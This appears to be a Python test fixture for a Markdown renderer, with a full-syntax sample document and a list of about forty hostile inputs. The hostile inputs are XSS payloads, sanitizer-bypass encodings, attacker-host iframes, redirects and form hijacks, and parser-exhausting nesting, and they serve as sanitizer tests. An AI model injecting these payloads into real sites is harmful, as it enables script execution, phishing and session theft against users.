"""Texts for the page's Markdown: one with everything, and hostile ones."""

DOCUMENT = r"""Here is **w0 w1**, *w2*, ~~w3~~, `w4 w5` and a [w6 w7](https://example.com/w "title") w8.

# w9 w10
Text w11\* w12 &amp; w13 &copy; w14
w15 w16<br>w17 H<sub>w18</sub>:
- w19 w20
- **w21:** w22
  - w23 `w24`
    w25

  w26
1. w27
2. w28
   ```python
   def w29(w30):  # w31
       return "w32"
   ```
3. w33

> w34 **w35
> w36** w37
> - w38

| w39 | `w40` | w42 \| w41 |
|:----|:-----:|---:|
| w43 | **w44** w44b | w45 |
| w46 | w47 | [w48](http://x.example) |

Setext w49
==========

    w50 indented

---
```js
const w51 = `w52`; // w53
```
See https://example.com/w54 and <https://example.com/w55>, ![w56](picture.png) w57
"w58" ***w59*** _w60_ snake_w61_case
2 * 3 * w62 ![x](y

Last w63 **w64 `w65`**
"""

X = "window.ran = 1"  # which each text tries to run
HOSTILE_TEXTS = [
    f"<script>{X}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>{X}</scr</script>ipt>",
    f"<img src=x onerror='{X}'>",
    f"<img src=https://evil.example/x.png><img/src=x/onerror={X}>",
    f"<svg onload='{X}'><script>{X}</script></svg>",
    f"<svg><animate onbegin='{X}' attributeName=x dur=1s></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={X}></svg>#x"></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror={X}>'>",
    f'<math href="javascript:{X}">x</math><maction actiontype="statusline" xlink:href="javascript:{X}">y',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
    '<p style="background: url(https://evil.example/x.png); position: fixed; inset: 0">covered</p>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">relative</a>',
    f"<form action='https://evil.example/'><input name=key><button formaction='javascript:{X}'>Log in</form>",
    f"<body onload='{X}'><details open ontoggle='{X}'><summary>x</summary></details>",
    f"<video autoplay onplay='{X}'><source src=https://evil.example/x.mp4 onerror='{X}'></video>",
    f"<input autofocus onfocus='{X}'><marquee onstart='{X}'>x</marquee>",
    f"<br onclick='{X}'><sub style='color: red' onmouseover='{X}'>x</sub><b/onclick={X}>y</b>",
    f"<!-- <img src=x onerror={X}> --><!--><img src=x onerror={X}>--><![CDATA[<script>{X}</script>]]>",
    f"<template><script>{X}</script></template><noscript><p title='</noscript><img src=x onerror={X}>'>",
    f"</span></code></pre></div></body></html><script>{X}</script>",
    f"[x](javascript:{X}) [y](JaVaScRiPt:{X}) [z](vbscript:x) <javascript:{X}>",
    f"[x](&#106;avascript:{X}) [y](java&Tab;script:{X}) [z](\x01javascript:{X})",
    f"[x](<java\nscript:{X}>) [y](%6Aavascript:{X}) [z]( javascript:{X} ) [w](\u200bjavascript:{X})",
    f"[x](data:text/html,<script>{X}</script>) ![y](data:image/svg+xml;base64,PHN2Zy8+) [z](blob:x)",
    f"[x][1] [y][2]\n\n[1]: javascript:{X}\n[2]: data:text/html;base64,PHNjcmlwdD4=",
    f'[x](https://ok.example "onmouseover={X}") [y](https://ok.example "\'><img src=x onerror={X}>")',
    f"![x](https://evil.example/x.png) ![y](//evil.example/y.png 'z') [![w](https://evil.example/w.png)](javascript:{X})",
    f'```html" onclick="{X}\n<script>{X}</script>\n```',
    f'```"><img/src=x/onerror={X}>\ncode\n```\n~~~constructor\nx\n~~~\n~~~__proto__\ny\n~~~',
    f"`<img src=x onerror={X}>` ``<script>{X}</script>`` <b>`</b>`",
    f"| <img src=x onerror={X}> | [x](javascript:{X}) |\n|:-:|-|\n| <script>{X}</script> | `</td>` |",
    f"# <img src=x onerror={X}>\n- <script>{X}</script>\n> <iframe src=javascript:{X}></iframe>",
    f"&lt;script&gt;{X}&lt;/script&gt; &#60;img src=x onerror={X}&#62; &NotANentity; &#0; &#x110000;",
    f"\u202e<tpircs>\u202c \ufeff<script\ufeff>{X}</script> ＜script＞{X}＜/script＞ \u2028\x00\x0b\ud800 x",
    '<span data-text="0">x</span><code data-text="7">z</code> <a id=rejected name=status>w</a>',
    ">" * 3000 + " x\n" + "- " * 3000 + "y\n" + "*" * 20000 + "z" + "[" * 5000 + "](" * 5000,
    "**_" * 3000 + "`" * 3001 + "<b>" * 3000 + "x" + "\n" + "| a " * 2000 + "\n" + " " * 20000 + "y",
]
